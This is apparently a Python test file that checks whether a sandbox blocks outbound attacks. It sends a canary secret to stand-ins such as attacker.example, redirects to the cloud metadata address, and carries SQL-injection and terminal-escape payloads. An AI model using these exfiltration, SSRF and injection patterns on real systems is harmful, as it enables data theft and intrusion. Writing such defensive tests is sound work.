"""Attempts by meaning: allowed-looking hosts, stubbed services and the record itself turned against their owner."""

import concurrent.futures
import http.server
import json
import smtplib
import socket
import ssl
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

from inside import SECRET, WAIT, attempt, dial, reads, run

KEY = "sk_live_" + "51CanaryOfTheTest" * 2
ESCAPE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
CONTEXT = ssl._create_unverified_context()


def call(method: str, url: str, body: bytes | None = None, **headers: str) -> tuple[int, str]:
    request = urllib.request.Request(url, body, {k.replace("_", "-"): v for k, v in headers.items()}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=WAIT, context=CONTEXT) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def stripe(method: str, path: str, **fields: str) -> tuple[int, str]:
    body = urllib.parse.urlencode(fields).encode() if fields else None
    return call(method, f"https://api.stripe.com/v1/{path}", body, Authorization=f"Bearer {KEY}")


for _name, _method, _url in (
    ("publish_to_npm", "PUT", "https://npm.registry.example/evil"),
    ("publish_to_pypi", "POST", "https://upload.packages.example/legacy/"),
    ("publish_to_crates", "PUT", "https://crates.io/api/v1/crates/new"),
    ("push", "POST", "https://git.example/attacker/repo.git/git-receive-pack"),
    ("gist", "POST", "https://api.git.example/gists"),
    ("presigned_url", "PUT", f"https://bucket.s3.amazonaws.com/{SECRET}?X-Amz-Signature=00"),
    ("graphql_over_get", "GET", "https://api.git.example/graphql?query=mutation%7Bx%7D"),
    ("batch", "POST", "https://www.googleapis.com/batch"),
):
    attempt(lambda method=_method, url=_url: call(method, url, b"x" if method != "GET" else None)[0], _name)


@attempt
def a_webhook_in_a_stubs_field() -> object:
    """Created, and an event made for it: the stub may say so, and must not deliver."""
    created, _ = stripe(
        "POST", "webhook_endpoints", url=f"https://attacker.example/{SECRET}", **{"enabled_events[]": "*"}
    )
    return [created, stripe("POST", "customers", email="a@example.com")[0]]


@attempt
def webhooks_inside() -> object:
    """To a listener in here, which sends whoever asks on to the metadata address; and to what is no plain URL."""
    heard = []

    class Hook(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            heard.append(f"POST {self.path}")
            self.send_response(302)
            self.send_header("Location", f"http://169.254.169.254/redirected/{SECRET}")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with http.server.HTTPServer(("127.0.0.1", 4244), Hook) as server:
        server.timeout = 10
        for url in ("http://localhost:4244/hook", f"http://localhost:4244@attacker.invalid/{SECRET}"):
            stripe("POST", "webhook_endpoints", url=url, **{"enabled_events[]": "product.created"})
        stripe("POST", "products", name="a product")
        server.handle_request()
    time.sleep(0.5)  # for the outcome to be recorded
    return heard


@attempt
def a_real_secret() -> object:
    """In a header, a body, a query, a path; and in a text that a stub echoes."""
    status, text = stripe("POST", "customers", description=f"the key is {KEY}")
    call(
        "POST",
        f"https://collect.example/{KEY}?key={KEY}",
        json.dumps({"password": KEY}).encode(),
        Cookie=f"session={KEY}",
    )
    call("GET", "https://raising.example/", X_Note=KEY)
    return [status, bool(text)]


@attempt
def injections() -> object:
    quote = urllib.parse.quote("'; DROP TABLE entry; --", safe="'();-")
    return [
        call("GET", f"http://sql.example/{quote}")[0],
        call(
            "POST", "http://json.example/", b'{"a": "\\u0000", "b": "\\ud800", "c": ' + b"[" * 5000 + b"]" * 5000 + b"}"
        )[0],
    ]


@attempt
def escapes() -> object:
    """Into every field of the record that a sandbox has a say in."""
    for host, data in (
        ("203.0.113.70", f"GET /{ESCAPE} HTTP/1.1\r\nHost: {ESCAPE}\r\n\r\n"),
        ("203.0.113.71", f"GE{ESCAPE}T / HTTP/1.1\r\nHost: a\r\n\r\n"),
        ("203.0.113.72", f"POST / HTTP/1.1\r\nHost: 203.0.113.72\r\nX-{ESCAPE}: a\r\nContent-Length: 0\r\n\r\n"),
        ("203.0.113.73", f"POST / HTTP/1.1\r\nHost: 203.0.113.73\r\nContent-Length: 40\r\n\r\n{ESCAPE * 8}"),
    ):
        with dial(host, 80) as sock:
            sock.sendall(data.encode())
            sock.shutdown(socket.SHUT_WR)
            reads(sock)
    with smtplib.SMTP("smtp.example", 25, timeout=WAIT) as smtp:
        message = f"From: {ESCAPE}\r\nTo: a@example.com\r\nSubject: {ESCAPE}\r\n\r\n{ESCAPE}\r\n"
        smtp.sendmail("a@example.com", ["b@example.com"], message.encode())
    return "done"


@attempt
def customers() -> object:
    return len(json.loads(stripe("GET", "customers")[1])["data"])


@attempt
def more_calls_than_the_limit() -> object:
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        answers = pool.map(lambda _: call("GET", "https://limited.example/")[0], range(12))
        return sorted(answers)


if len(sys.argv) > 1:
    from inside import attempts

    for _name in set(attempts) - {sys.argv[1]}:
        del attempts[_name]
run()
